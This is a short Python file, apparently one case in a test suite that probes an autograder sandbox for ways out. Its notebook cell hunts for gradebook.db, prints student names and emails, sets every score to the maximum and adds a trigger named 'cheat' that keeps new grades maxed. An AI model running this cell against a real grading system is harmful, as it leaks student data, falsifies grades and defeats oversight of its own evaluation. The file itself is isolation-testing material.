"""Looks for gradebook.db where it is in a course, and sets every score to its maximum.

It is not there.
"""

from attacks import Files, Notebook, with_cell

KIND = "ways out"
STOCK = True
CELL = r"""
import os, sqlite3
for folder in (".", "..", "../..", "../../..", "../../../..", "/"):
    path = os.path.join(folder, "gradebook.db")
    if os.path.exists(path):
        with sqlite3.connect(path, timeout=1) as book:
            print(book.execute("SELECT first_name, email FROM student").fetchall())
            try:
                book.execute("UPDATE grade SET manual_score = 16.0, needs_manual_grade = 0")
                book.execute("CREATE TRIGGER cheat AFTER INSERT ON grade BEGIN UPDATE grade SET manual_score = 16.0 WHERE id = NEW.id; END")
            except sqlite3.Error as error:
                print(error)
"""


def hand_in(notebook: Notebook) -> Files:
    return with_cell(notebook, CELL)
